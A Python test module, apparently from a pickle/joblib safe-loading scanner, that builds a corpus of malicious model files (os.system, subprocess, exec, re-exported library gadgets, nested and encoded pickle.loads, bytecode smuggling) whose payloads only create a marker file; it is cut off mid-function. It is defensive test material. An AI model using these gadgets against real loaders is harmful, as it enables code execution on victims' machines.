"""The attack corpus: hostile pickle/joblib files, each built by hand or by the real pickler.

Every entry of :data:`ATTACKS` is a function ``(marker: Path) -> bytes``. The bytes it returns
are a model file that, *if it were ever loaded* by ``pickle.loads`` or ``joblib.load`` (or, for a
few, used after loading), runs attacker code that creates the file ``marker``: so "the marker is
absent" proves that no code ran. :data:`INFO` says, for each attack, its category, how it fires
and whether it is a resource bomb. Entries whose ``fires`` is ``"never"`` are refusals of
stream features that have no business in a model file (unregistered EXT codes, persistent ids,
confusable names): they run nothing by themselves but must still be refused.

:data:`BENIGN` holds the opposite cases, files that *look* hostile to a naive scanner (a
malicious pickle stored as bytes inside a legitimate pickle, a uint8 array whose raw bytes spell
one) but are data, never code: they must scan safe and load.

NEVER unpickle any of these bytes in a process you care about. The tests only scan them, feed
them to safeload's own loader, and (for the sanity check that they are real) load them with
plain pickle/joblib in a throwaway subprocess.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import importlib
import io
import lzma
import marshal
import pickle
import re
import shlex
import shutil
import struct
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np

Builder = Callable[[Path], bytes]

# --- the opcode builder ---------------------------------------------------------------------
# Each helper returns the bytes of one opcode (with its argument); attacks concatenate them.

MARK = b"("
STOP = b"."
POP = b"0"
POP_MARK = b"1"
DUP = b"2"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_LIST = b"]"
EMPTY_DICT = b"}"
LIST = b"l"
DICT = b"d"
APPEND = b"a"
APPENDS = b"e"
SETITEM = b"s"
SETITEMS = b"u"
REDUCE = b"R"
BUILD = b"b"
INST_OP = b"i"
OBJ = b"o"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
BINPERSID = b"Q"


def proto(n: int) -> bytes:
    """PROTO n (protocol 2+ header)."""
    return b"\x80" + bytes([n])


def frame(payload: bytes) -> bytes:
    """FRAME around ``payload`` (protocol 4+)."""
    return b"\x95" + struct.pack("<Q", len(payload)) + payload


def global_op(module: str, name: str) -> bytes:
    """GLOBAL: newline-terminated module and name (protocol 0)."""
    return b"c" + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"


def inst(module: str, name: str) -> bytes:
    """INST: like GLOBAL, then calls the class with the args down to the last MARK."""
    return INST_OP + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"


def unicode0(text: str) -> bytes:
    """UNICODE (protocol 0): raw-unicode-escape, newline-terminated, as pickle writes it."""
    escaped = text.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
    escaped = escaped.replace("\r", "\\u000d").replace("\x1a", "\\u001a")
    return b"V" + escaped.encode("raw-unicode-escape") + b"\n"


def string0(escaped: str) -> bytes:
    """STRING (protocol 0): a quoted, backslash-escaped literal, decoded to str on load."""
    return b"S'" + escaped.encode("ascii") + b"'\n"


def short_binstring(text: str) -> bytes:
    """SHORT_BINSTRING: py2 str, decoded (ASCII) to a Python 3 str on load."""
    data = text.encode("ascii")
    return b"U" + bytes([len(data)]) + data


def binunicode(text: str) -> bytes:
    """BINUNICODE (protocol 1)."""
    data = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def short_binunicode(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    data = text.encode("utf-8")
    if len(data) > 255:
        return binunicode(text)
    return b"\x8c" + bytes([len(data)]) + data


def binunicode8(text: str) -> bytes:
    """BINUNICODE8 (protocol 4)."""
    data = text.encode("utf-8")
    return b"\x8d" + struct.pack("<Q", len(data)) + data


def binbytes(data: bytes) -> bytes:
    """BINBYTES (protocol 3)."""
    return b"B" + struct.pack("<I", len(data)) + data


def binint(n: int) -> bytes:
    """The shortest binary int opcode for ``n`` (BININT1/BININT2/BININT, else INT)."""
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    return b"I" + str(n).encode("ascii") + b"\n"


def put(i: int) -> bytes:
    """PUT (text memo index)."""
    return b"p" + str(i).encode("ascii") + b"\n"


def get(i: int) -> bytes:
    """GET (text memo index)."""
    return b"g" + str(i).encode("ascii") + b"\n"


def binput(i: int) -> bytes:
    """BINPUT (1-byte memo index)."""
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    """BINGET (1-byte memo index)."""
    return b"h" + bytes([i])


def long_binput(i: int) -> bytes:
    """LONG_BINPUT (4-byte memo index)."""
    return b"r" + struct.pack("<I", i)


def long_binget(i: int) -> bytes:
    """LONG_BINGET (4-byte memo index)."""
    return b"j" + struct.pack("<I", i)


def ext1(code: int) -> bytes:
    """EXT1: the global registered under ``code`` in copyreg's extension registry."""
    return b"\x82" + bytes([code])


def ext2(code: int) -> bytes:
    """EXT2."""
    return b"\x83" + struct.pack("<H", code)


def ext4(code: int) -> bytes:
    """EXT4."""
    return b"\x84" + struct.pack("<i", code)


def s(text: str, protocol: int) -> bytes:
    """A str literal with the opcode a real pickler would use at ``protocol``."""
    if protocol < 1:
        return unicode0(text)
    if protocol < 4:
        return binunicode(text)
    return short_binunicode(text)


def g(module: str, name: str, protocol: int) -> bytes:
    """A global reference: GLOBAL below protocol 4, memoised STACK_GLOBAL from 4 on."""
    if protocol < 4:
        return global_op(module, name)
    return short_binunicode(module) + MEMOIZE + short_binunicode(name) + MEMOIZE + STACK_GLOBAL


def tup(*items: bytes) -> bytes:
    """A tuple of the items (MARK ... TUPLE works at every protocol)."""
    return MARK + b"".join(items) + TUPLE


def lst(*items: bytes, protocol: int = 2) -> bytes:
    """A list of the items."""
    if protocol < 1:
        return MARK + b"".join(items) + LIST
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def dct(*pairs: tuple[bytes, bytes], protocol: int = 2) -> bytes:
    """A dict of the (key, value) pairs."""
    body = b"".join(k + v for k, v in pairs)
    if protocol < 1:
        return MARK + body + DICT
    return EMPTY_DICT + MARK + body + SETITEMS


def call(fn: bytes, *args: bytes) -> bytes:
    """REDUCE: call whatever ``fn`` pushed with the given positional args."""
    return fn + tup(*args) + REDUCE


def lit(value: Any, protocol: int = 4) -> bytes:
    """Opcodes for a plain literal: None, bool, int, str, bytes, tuple, list."""
    if value is None:
        return NONE
    if value is True:
        return NEWTRUE
    if value is False:
        return NEWFALSE
    if isinstance(value, int):
        return binint(value)
    if isinstance(value, str):
        return s(value, protocol)
    if isinstance(value, bytes):
        return binbytes(value)
    if isinstance(value, tuple):
        return tup(*(lit(v, protocol) for v in value))
    if isinstance(value, list):
        return lst(*(lit(v, protocol) for v in value), protocol=protocol)
    raise TypeError(f"no literal opcode for {type(value).__name__}")


def wrap(body: bytes, protocol: int) -> bytes:
    """A whole pickle: PROTO header (protocol 2+), the body, STOP."""
    return (proto(protocol) if protocol >= 2 else b"") + body + STOP


class _Reduce:
    """Pickles (with the real pickler) as a call of ``func(*args)``."""

    def __init__(self, func: Any, args: tuple[Any, ...]) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.func, self.args)


def joblib_bytes(obj: Any, compress: Any = 0) -> bytes:
    """What ``joblib.dump(obj, f, compress=compress)`` writes."""
    buffer = io.BytesIO()
    joblib.dump(obj, buffer, compress=compress)
    return buffer.getvalue()


def reexported(module: str, dotted: str) -> tuple[str, str]:
    """Check, by importing and walking attributes, that ``module.dotted`` really exists."""
    obj: Any = importlib.import_module(module)
    for part in dotted.split("."):
        if not hasattr(obj, part):
            raise LookupError(f"{module}.{dotted} does not exist in this environment")
        obj = getattr(obj, part)
    return module, dotted


# --- payload helpers ------------------------------------------------------------------------


def shell_cmd(marker: Path) -> str:
    """A shell command that creates the marker."""
    return "touch " + shlex.quote(str(marker))


def py_src(marker: Path) -> str:
    """Python source (statement and expression) that creates the marker."""
    return f"open({str(marker)!r}, 'w').close()"


def touch_argv(marker: Path) -> bytes:
    """The list ``['touch', marker]`` for subprocess-style callables (protocol 2+)."""
    return lst(s("touch", 2), s(str(marker), 2))


def open_call(marker: Path, protocol: int) -> bytes:
    """``open(marker, 'w')`` through builtins.open, as opcodes."""
    return call(g("builtins", "open", protocol), s(str(marker), protocol), s("w", protocol))


def inner_pickle(marker: Path, protocol: int = 2) -> bytes:
    """A complete malicious pickle, for nesting inside another stream."""
    return pickle.dumps(_Reduce(open, (str(marker), "w")), protocol=protocol)


# --- registration ---------------------------------------------------------------------------


def named(name: str) -> str:
    """An expectation that is exactly one global name (``module.qualname``)."""
    return "^" + re.escape(name) + "$"


@dataclass(frozen=True)
class AttackInfo:
    """What an attack is, how it fires, and why each wall must refuse it.

    ``fires``: ``"pickle"`` (``pickle.loads`` and ``joblib.load`` both run it), ``"joblib"``
    (only joblib's reader runs it, given the file's path), ``"use"`` (runs when the loaded model
    is used), ``"async"`` (starts a process that creates the marker a moment later),
    ``"interactive"`` (runs once a user continues a debugger), ``"multi-load"`` (runs in a
    reader that loads pickles until EOF), ``"sidecar"`` (runs if a companion file the attacker
    also controls is present), ``"never"`` (a refusal of a stream feature or of a call form;
    nothing runs by itself).

    ``expect``: a regex (``re.search``) that one of the scanner's ``report.untrusted`` or
    ``report.problems`` must match: the attack's *own* reason (the offending global, made with
    :func:`named`, or the specific rule or limit), so that a refusal for some other, incidental
    reason does not count. ``second_wall_expect``: the same for the restricted unpickler alone,
    matched against its error (message, ``.types`` and the name of the exception it wraps);
    empty: ``expect`` again. ``policy``: exact names the victim trusts beyond the default
    policy (an attack on a user's own extension). ``second_wall_skip``: why the restricted
    unpickler alone cannot be expected to stop it (empty: it must). ``isolate``: it may crash or
    hang the interpreter that lets it through, so it is only ever fed to the restricted
    unpickler in a subprocess (with a timeout). ``references``: exact names the victim trusts
    as stored references only (``extend(..., callable=False)``): an attack that makes the
    pickle machine call one of them.
    """

    category: str
    fires: str
    summary: str
    expect: str
    second_wall_expect: str = ""
    policy: tuple[str, ...] = ()
    bomb: bool = False
    second_wall_skip: str = ""
    isolate: bool = False  # may crash or hang the interpreter that lets it through
    references: tuple[str, ...] = ()

    @property
    def second_wall_reason(self) -> str:
        return self.second_wall_expect or self.expect


ATTACKS: dict[str, Builder] = {}
INFO: dict[str, AttackInfo] = {}
BENIGN: dict[str, Builder] = {}
BENIGN_EXTRA_TYPES: dict[str, tuple[str, ...]] = {}


def register(
    name: str,
    builder: Builder,
    category: str,
    fires: str,
    summary: str,
    *,
    expect: str,
    second_wall_expect: str = "",
    policy: tuple[str, ...] = (),
    bomb: bool = False,
    second_wall_skip: str = "",
    isolate: bool = False,
    references: tuple[str, ...] = (),
) -> None:
    """Add one attack (names are unique)."""
    if name in ATTACKS:
        raise ValueError(f"duplicate attack name {name}")
    ATTACKS[name] = builder
    INFO[name] = AttackInfo(
        category,
        fires,
        summary,
        expect,
        second_wall_expect,
        policy,
        bomb,
        second_wall_skip,
        isolate,
        references,
    )


def attack(
    category: str,
    fires: str = "pickle",
    *,
    expect: str,
    second_wall_expect: str = "",
    policy: tuple[str, ...] = (),
    bomb: bool = False,
    second_wall_skip: str = "",
    isolate: bool = False,
    references: tuple[str, ...] = (),
) -> Callable[[Builder], Builder]:
    """Register the decorated builder under its function name; its docstring is the summary."""

    def decorate(fn: Builder) -> Builder:
        register(
            fn.__name__,
            fn,
            category,
            fires,
            (fn.__doc__ or "").strip().splitlines()[0],
            expect=expect,
            second_wall_expect=second_wall_expect,
            policy=policy,
            bomb=bomb,
            second_wall_skip=second_wall_skip,
            isolate=isolate,
            references=references,
        )
        return fn

    return decorate


def benign(*extra_types: str) -> Callable[[Builder], Builder]:
    """Register a benign case and the exact names (beyond the default policy) it needs."""

    def decorate(fn: Builder) -> Builder:
        BENIGN[fn.__name__] = fn
        BENIGN_EXTRA_TYPES[fn.__name__] = extra_types
        return fn

    return decorate


# === 1. direct callables (stdlib exec/OS gadgets), across protocols 0..5 ======================


def _os_system_pickler(protocol: int) -> Builder:
    def build(marker: Path) -> bytes:
        # os.system pickles as posix.system: this is exactly what the real pickler writes.
        import os

        return pickle.dumps(_Reduce(os.system, (shell_cmd(marker),)), protocol=protocol)

    return build


for _p in range(6):
    register(
        f"os_system_pickler_p{_p}",
        _os_system_pickler(_p),
        "direct",
        "pickle",
        f"os.system via __reduce__, written by the real pickler at protocol {_p}",
        expect=named("posix.system"),
    )


def _builtins_open(protocol: int) -> Builder:
    def build(marker: Path) -> bytes:
        return wrap(open_call(marker, protocol) + POP + NONE, protocol)

    return build


for _p in range(6):
    register(
        f"builtins_open_p{_p}",
        _builtins_open(_p),
        "direct",
        "pickle",
        f"builtins.open(marker, 'w'), hand-built with protocol-{_p} opcodes",
        expect=named("builtins.open"),
    )


@attack("direct", expect=named("os.system"))
def os_system_global_p0(marker: Path) -> bytes:
    """GLOBAL 'os system' (the os spelling, not posix) at protocol 0."""
    return wrap(call(global_op("os", "system"), unicode0(shell_cmd(marker))), 0)


@attack("direct", expect=named("posix.system"))
def posix_system_p1(marker: Path) -> bytes:
    """posix.system with protocol-1 opcodes (BINUNICODE)."""
    return wrap(call(global_op("posix", "system"), binunicode(shell_cmd(marker))), 1)


@attack("direct", "async", expect=named("subprocess.Popen"))
def subprocess_popen_p2(marker: Path) -> bytes:
    """subprocess.Popen(['touch', marker])."""
    return wrap(call(g("subprocess", "Popen", 2), touch_argv(marker)), 2)


@attack("direct", expect=named("subprocess.check_call"))
def subprocess_check_call_p3(marker: Path) -> bytes:
    """subprocess.check_call(['touch', marker])."""
    return wrap(call(g("subprocess", "check_call", 3), touch_argv(marker)), 3)


@attack("direct", expect=named("subprocess.getoutput"))
def subprocess_getoutput_p1(marker: Path) -> bytes:
    """subprocess.getoutput(shell command)."""
    return wrap(call(g("subprocess", "getoutput", 1), s(shell_cmd(marker), 1)), 1)


@attack("direct", expect=named("os.popen"), second_wall_expect=named("builtins.getattr"))
def os_popen_p4(marker: Path) -> bytes:
    """os.popen(cmd).read(): the call runs the shell, read waits for it."""
    pipe = call(g("os", "popen", 4), s(shell_cmd(marker), 4))
    return wrap(call(g("builtins", "getattr", 4), pipe, s("read", 4)) + EMPTY_TUPLE + REDUCE, 4)


@attack("direct", expect=named("os.spawnv"))
def os_spawnv_p5(marker: Path) -> bytes:
    """os.spawnv(P_WAIT, touch, ['touch', marker])."""
    touch = shutil.which("touch") or "/usr/bin/touch"
    return wrap(call(g("os", "spawnv", 5), binint(0), s(touch, 5), touch_argv(marker)), 5)


@attack("direct", expect=named("builtins.exec"))
def builtins_exec_p4(marker: Path) -> bytes:
    """builtins.exec(source)."""
    return wrap(call(g("builtins", "exec", 4), s(py_src(marker), 4)), 4)


@attack("direct", expect=named("builtins.eval"))
def builtins_eval_p5(marker: Path) -> bytes:
    """builtins.eval(expression)."""
    return wrap(call(g("builtins", "eval", 5), s(py_src(marker), 5)), 5)


@attack("direct", expect=named("builtins.exec"))
def builtins_compile_exec_p2(marker: Path) -> bytes:
    """builtins.exec(builtins.compile(source, '<m>', 'exec'))."""
    code = call(g("builtins", "compile", 2), s(py_src(marker), 2), s("<m>", 2), s("exec", 2))
    return wrap(call(g("builtins", "exec", 2), code), 2)


@attack("direct", expect=named("builtins.__import__"), second_wall_expect=named("builtins.getattr"))
def builtins_import_getattr_p3(marker: Path) -> bytes:
    """builtins.getattr(builtins.__import__('os'), 'system')(cmd)."""
    os_mod = call(g("builtins", "__import__", 3), s("os", 3))
    system = call(g("builtins", "getattr", 3), os_mod, s("system", 3))
    return wrap(call(system, s(shell_cmd(marker), 3)), 3)


@attack("direct", expect=named("builtins.getattr"))
def builtins_getattr_chain_p2(marker: Path) -> bytes:
    """getattr(getattr(getattr(__import__('os'), 'path'), 'os'), 'system')(cmd)."""
    ga = g("builtins", "getattr", 2)
    os_mod = call(g("builtins", "__import__", 2), s("os", 2))
    path_mod = call(ga, os_mod, s("path", 2))
    os_again = call(ga, path_mod, s("os", 2))
    return wrap(call(call(ga, os_again, s("system", 2)), s(shell_cmd(marker), 2)), 2)


@attack(
    "direct", expect=named("importlib.import_module"), second_wall_expect=named("builtins.getattr")
)
def importlib_import_module_getattr_p4(marker: Path) -> bytes:
    """getattr(importlib.import_module('subprocess'), 'check_call')(['touch', marker])."""
    mod = call(g("importlib", "import_module", 4), s("subprocess", 4))
    check_call = call(g("builtins", "getattr", 4), mod, s("check_call", 4))
    return wrap(call(check_call, touch_argv(marker)), 4)


@attack("direct", "async", expect=named("pty.spawn"))
def pty_spawn_p2(marker: Path) -> bytes:
    """pty.spawn(['touch', marker])."""
    return wrap(call(g("pty", "spawn", 2), touch_argv(marker)), 2)


@attack("direct", expect=named("runpy._run_code"))
def runpy_run_code_p4(marker: Path) -> bytes:
    """runpy._run_code(source, {}): exec of a string through a private runpy helper."""
    return wrap(call(g("runpy", "_run_code", 4), s(py_src(marker), 4), EMPTY_DICT), 4)


@attack("direct", expect=named("code.InteractiveInterpreter.runsource"))
def code_interactive_interpreter_p4(marker: Path) -> bytes:
    """code.InteractiveInterpreter.runsource(InteractiveInterpreter(), source), dotted name."""
    interp = call(g("code", "InteractiveInterpreter", 4))
    run = g("code", "InteractiveInterpreter.runsource", 4)
    return wrap(call(run, interp, s(py_src(marker), 4)), 4)


@attack("direct", expect=named("timeit.timeit"))
def timeit_timeit_p3(marker: Path) -> bytes:
    """timeit.timeit(source, 'pass', time.perf_counter, 1)."""
    timer = g("time", "perf_counter", 3)
    return wrap(
        call(g("timeit", "timeit", 3), s(py_src(marker), 3), s("pass", 3), timer, binint(1)), 3
    )


@attack("direct", expect=named("cProfile.run"))
def cprofile_run_p2(marker: Path) -> bytes:
    """cProfile.run(source): exec under the profiler."""
    return wrap(call(g("cProfile", "run", 2), s(py_src(marker), 2)), 2)


@attack("direct", expect=named("bdb.Bdb.run"))
def bdb_run_dotted_p4(marker: Path) -> bytes:
    """bdb.Bdb.run(Bdb(), source): exec under a non-interactive debugger base class."""
    return wrap(call(g("bdb", "Bdb.run", 4), call(g("bdb", "Bdb", 4)), s(py_src(marker), 4)), 4)


@attack("direct", "interactive", expect=named("pdb.run"))
def pdb_run_p0(marker: Path) -> bytes:
    """pdb.run(source): exec under pdb (runs as soon as the user types 'c')."""
    return wrap(call(global_op("pdb", "run"), unicode0(py_src(marker))), 0)


# === 2. dangerous names re-exported by allowlisted-looking modules ============================


@attack("reexport", expect=named("numpy.testing._private.utils.os.system"))
def reexport_numpy_testing_os_system(marker: Path) -> bytes:
    """numpy.testing._private.utils exposes os: STACK_GLOBAL ('numpy.testing...', 'os.system')."""
    module, name = reexported("numpy.testing._private.utils", "os.system")
    return wrap(call(g(module, name, 4), s(shell_cmd(marker), 4)), 4)


@attack("reexport", expect=named("sklearn.os.system"))
def reexport_sklearn_os_system(marker: Path) -> bytes:
    """The sklearn package itself exposes os: ('sklearn', 'os.system')."""
    module, name = reexported("sklearn", "os.system")
    return wrap(call(g(module, name, 4), s(shell_cmd(marker), 4)), 4)


@attack("reexport", expect=named("joblib.numpy_pickle.os.system"))
def reexport_joblib_numpy_pickle_os_system(marker: Path) -> bytes:
    """joblib.numpy_pickle (home of NumpyArrayWrapper) exposes os."""
    module, name = reexported("joblib.numpy_pickle", "os.system")
    return wrap(call(g(module, name, 5), s(shell_cmd(marker), 5)), 5)


@attack("reexport", expect=named("numpy.f2py.subprocess.check_call"))
def reexport_numpy_f2py_subprocess(marker: Path) -> bytes:
    """numpy.f2py exposes subprocess: ('numpy.f2py', 'subprocess.check_call')."""
    module, name = reexported("numpy.f2py", "subprocess.check_call")
    return wrap(call(g(module, name, 4), touch_argv(marker)), 4)


@attack("reexport", expect=named("joblib.numpy_pickle.pickle.loads"))
def reexport_joblib_numpy_pickle_pickle_loads(marker: Path) -> bytes:
    """joblib.numpy_pickle exposes pickle: a nested pickle.loads through it."""
    module, name = reexported("joblib.numpy_pickle", "pickle.loads")
    return wrap(call(g(module, name, 4), binbytes(inner_pickle(marker))), 4)


@attack("reexport", expect=named("numpy.lib._format_impl.pickle.loads"))
def reexport_numpy_format_pickle_loads(marker: Path) -> bytes:
    """numpy.lib._format_impl exposes pickle (the .npy reader's own import)."""
    module, name = reexported("numpy.lib._format_impl", "pickle.loads")
    return wrap(call(g(module, name, 4), binbytes(inner_pickle(marker))), 4)


@attack("reexport", expect=named("numpy.testing._private.utils.runstring"))
def reexport_numpy_testing_runstring(marker: Path) -> bytes:
    """numpy.testing._private.utils.runstring(src, {}): a numpy function that is exec()."""
    module, name = reexported("numpy.testing._private.utils", "runstring")
    return wrap(call(global_op(module, name), s(py_src(marker), 2), EMPTY_DICT), 2)


@attack("reexport", expect=named("sklearn.utils._testing.assert_run_python_script_without_output"))
def reexport_sklearn_testing_run_script(marker: Path) -> bytes:
    """sklearn.utils._testing.assert_run_python_script_without_output(src): runs a script."""
    module, name = reexported("sklearn.utils._testing", "assert_run_python_script_without_output")
    return wrap(call(g(module, name, 3), s(py_src(marker), 3)), 3)


@attack("reexport", expect=named("joblib.testing.check_subprocess_call"))
def reexport_joblib_testing_check_subprocess_call(marker: Path) -> bytes:
    """joblib.testing.check_subprocess_call(['touch', marker])."""
    module, name = reexported("joblib.testing", "check_subprocess_call")
    return wrap(call(g(module, name, 4), touch_argv(marker)), 4)


@attack(
    "reexport",
    expect=named("sklearn.utils._testing.importlib.import_module"),
    second_wall_expect=named("operator.methodcaller"),
)
def reexport_sklearn_testing_importlib(marker: Path) -> bytes:
    """sklearn.utils._testing exposes importlib: import_module('os'), then methodcaller."""
    module, name = reexported("sklearn.utils._testing", "importlib.import_module")
    os_mod = call(g(module, name, 4), s("os", 4))
    caller = call(g("operator", "methodcaller", 4), s("system", 4), s(shell_cmd(marker), 4))
    return wrap(call(caller, os_mod), 4)


# === 3. nested deserialization ================================================================


@attack("nested", expect=named("pickle.loads"))
def nested_pickle_loads_p2(marker: Path) -> bytes:
    """pickle.loads(bytes of a malicious pickle), bytes built with _codecs.encode (protocol 2)."""
    as_text = inner_pickle(marker).decode("latin-1")
    data = call(g("_codecs", "encode", 2), s(as_text, 2), s("latin1", 2))
    return wrap(call(g("pickle", "loads", 2), data), 2)


@attack("nested", expect=named("_pickle.loads"))
def nested_c_pickle_loads_p3(marker: Path) -> bytes:
    """_pickle.loads(BINBYTES)."""
    return wrap(call(g("_pickle", "loads", 3), binbytes(inner_pickle(marker))), 3)


@attack("nested", expect=named("pickle._loads"))
def nested_pure_pickle_loads_p4(marker: Path) -> bytes:
    """pickle._loads (the pure-Python unpickler)."""
    return wrap(call(g("pickle", "_loads", 4), binbytes(inner_pickle(marker))), 4)


@attack("nested", expect=named("pickle.Unpickler.load"))
def nested_unpickler_load_dotted_p4(marker: Path) -> bytes:
    """pickle.Unpickler.load(Unpickler(io.BytesIO(b))): dotted method name."""
    bio = call(g("io", "BytesIO", 4), binbytes(inner_pickle(marker)))
    unpickler = call(g("pickle", "Unpickler", 4), bio)
    return wrap(call(g("pickle", "Unpickler.load", 4), unpickler), 4)


@attack("nested", expect=named("joblib.load"))
def nested_joblib_load_p4(marker: Path) -> bytes:
    """joblib.load(io.BytesIO(joblib file))."""
    inner = joblib_bytes(_Reduce(open, (str(marker), "w")))
    return wrap(call(g("joblib", "load", 4), call(g("io", "BytesIO", 4), binbytes(inner))), 4)


@attack("nested", expect=named("numpy.load"))
def nested_numpy_load_allow_pickle_p4(marker: Path) -> bytes:
    """numpy.load(io.BytesIO(.npy of an object array), None, True): allow_pickle=True."""
    buffer = io.BytesIO()
    payload = np.empty(1, dtype=object)
    payload[0] = _Reduce(open, (str(marker), "w"))
    np.save(buffer, payload, allow_pickle=True)
    bio = call(g("io", "BytesIO", 4), binbytes(buffer.getvalue()))
    return wrap(call(g("numpy", "load", 4), bio, NONE, NEWTRUE), 4)


@attack("nested", expect=named("builtins.bytes.fromhex"), second_wall_expect=named("pickle.loads"))
def nested_bytes_fromhex_p4(marker: Path) -> bytes:
    """pickle.loads(bytes.fromhex(hex)): the payload never appears as bytes in the file."""
    data = call(g("builtins", "bytes.fromhex", 4), s(inner_pickle(marker).hex(), 4))
    return wrap(call(g("pickle", "loads", 4), data), 4)


@attack("nested", expect=named("base64.b64decode"), second_wall_expect=named("pickle.loads"))
def nested_base64_b64decode_p3(marker: Path) -> bytes:
    """pickle.loads(base64.b64decode(text))."""
    import base64

    text = base64.b64encode(inner_pickle(marker)).decode("ascii")
    return wrap(call(g("pickle", "loads", 3), call(g("base64", "b64decode", 3), s(text, 3))), 3)


@attack("nested", expect=named("zlib.decompress"), second_wall_expect=named("pickle.loads"))
def nested_zlib_decompress_p3(marker: Path) -> bytes:
    """pickle.loads(zlib.decompress(b)): the inner stream is compressed inside the outer."""
    inner = binbytes(zlib.compress(inner_pickle(marker)))
    return wrap(call(g("pickle", "loads", 3), call(g("zlib", "decompress", 3), inner)), 3)


@attack("nested", expect=named("marshal.loads"), second_wall_expect=named("types.FunctionType"))
def nested_marshal_function_type_p4(marker: Path) -> bytes:
    """types.FunctionType(marshal.loads(code bytes), {})(): bytecode smuggled as bytes."""
    code = marshal.dumps(compile(py_src(marker), "<m>", "exec"))
    fn = call(
        g("types", "FunctionType", 4), call(g("marshal", "loads", 4), binbytes(code)), EMPTY_DICT
    )
    return wrap(fn + EMPTY_TUPLE + REDUCE, 4)


# === 4. gadgets: higher-order and constructor tricks ==========================================


@attack("gadget", expect=named("joblib.os"), second_wall_expect=named("operator.attrgetter"))
def operator_attrgetter_reexported_os(marker: Path) -> bytes:
    """operator.attrgetter('system')(joblib.os)(cmd): the module object from a GLOBAL."""
    module, name = reexported("joblib", "os")
    getter = call(g("operator", "attrgetter", 4), s("system", 4))
    return wrap(call(call(getter, g(module, name, 4)), s(shell_cmd(marker), 4)), 4)


@attack("gadget", expect=named("sys.modules"), second_wall_expect=named("operator.methodcaller"))
def operator_methodcaller_sys_modules(marker: Path) -> bytes:
    """methodcaller('system', cmd)(dict.get(sys.modules, 'os'))."""
    os_mod = call(g("builtins", "dict.get", 4), g("sys", "modules", 4), s("os", 4))
    caller = call(g("operator", "methodcaller", 4), s("system", 4), s(shell_cmd(marker), 4))
    return wrap(call(caller, os_mod), 4)


@attack(
    "gadget",
    expect=r"calls functools\.partial with other than \(sklearn\.utils\.validation\.check_array,\)",
    second_wall_expect=named("os.system"),
)
def functools_partial_reduce_p2(marker: Path) -> bytes:
    """functools.partial(os.system, cmd)()."""
    part = call(g("functools", "partial", 2), g("os", "system", 2), s(shell_cmd(marker), 2))
    return wrap(part + EMPTY_TUPLE + REDUCE, 2)


@attack(
    "gadget",
    expect=r"calls copyreg\._reconstructor with other than \(<class>, object, None\)",
    second_wall_expect=named("logging.FileHandler"),
)
def copyreg_reconstructor_filehandler(marker: Path) -> bytes:
    """copyreg._reconstructor(FileHandler, FileHandler, marker): base.__init__ opens the file."""
    handler = g("logging", "FileHandler", 2)
    return wrap(call(g("copyreg", "_reconstructor", 2), handler, handler, s(str(marker), 2)), 2)


@attack("gadget", expect=named("builtins.type"))
def builtins_type_init_exec(marker: Path) -> bytes:
    """type('E', (), {'__init__': exec})(source): a builtin as __init__ is called unbound."""
    cls = call(
        g("builtins", "type", 4),
        s("E", 4),
        EMPTY_TUPLE,
        dct((s("__init__", 4), g("builtins", "exec", 4))),
    )
    return wrap(call(cls, s(py_src(marker), 4)), 4)


@attack("gadget", expect=named("types.CodeType"), second_wall_expect=named("types.FunctionType"))
def types_codetype_function(marker: Path) -> bytes:
    """types.FunctionType(types.CodeType(...fields...), {})(): bytecode rebuilt field by field."""
    co = compile(py_src(marker), "<m>", "exec")
    if sys.version_info >= (3, 11):
        fields: tuple[Any, ...] = (
            co.co_argcount,
            co.co_posonlyargcount,
            co.co_kwonlyargcount,
            co.co_nlocals,
            co.co_stacksize,
            co.co_flags,
            co.co_code,
            co.co_consts,
            co.co_names,
            co.co_varnames,
            co.co_filename,
            co.co_name,
            co.co_qualname,
            co.co_firstlineno,
            co.co_linetable,
            co.co_exceptiontable,
            co.co_freevars,
            co.co_cellvars,
        )
    else:  # pragma: no cover - Python 3.10
        fields = (
            co.co_argcount,
            co.co_posonlyargcount,
            co.co_kwonlyargcount,
            co.co_nlocals,
            co.co_stacksize,
            co.co_flags,
            co.co_code,
            co.co_consts,
            co.co_names,
            co.co_varnames,
            co.co_filename,
            co.co_name,
            co.co_firstlineno,
            co.co_linetable,
            co.co_freevars,
            co.co_cellvars,
        )
    code = call(g("types", "CodeType", 4), *(lit(f) for f in fields))
    return wrap(call(g("types", "FunctionType", 4), code, EMPTY_DICT) + EMPTY_TUPLE + REDUCE, 4)


@attack("gadget", expect=named("numpy.frompyfunc"))
def numpy_frompyfunc_system(marker: Path) -> bytes:
    """numpy.frompyfunc(os.system, 1, 1)(cmd): a ufunc wrapping a dangerous callable."""
    ufunc = call(g("numpy", "frompyfunc", 4), g("os", "system", 4), binint(1), binint(1))
    return wrap(call(ufunc, s(shell_cmd(marker), 4)), 4)


@attack("gadget", expect=named("numpy.vectorize"))
def numpy_vectorize_system(marker: Path) -> bytes:
    """numpy.vectorize(os.system)(cmd)."""
    vec = call(g("numpy", "vectorize", 4), g("os", "system", 4))
    return wrap(call(vec, s(shell_cmd(marker), 4)), 4)


@attack(
    "gadget", expect=named("collections.defaultdict"), second_wall_expect=named("operator.getitem")
)
def collections_defaultdict_factory(marker: Path) -> bytes:
    """defaultdict(partial(os.system, cmd)), then operator.getitem on a missing key."""
    factory = call(g("functools", "partial", 4), g("os", "system", 4), s(shell_cmd(marker), 4))
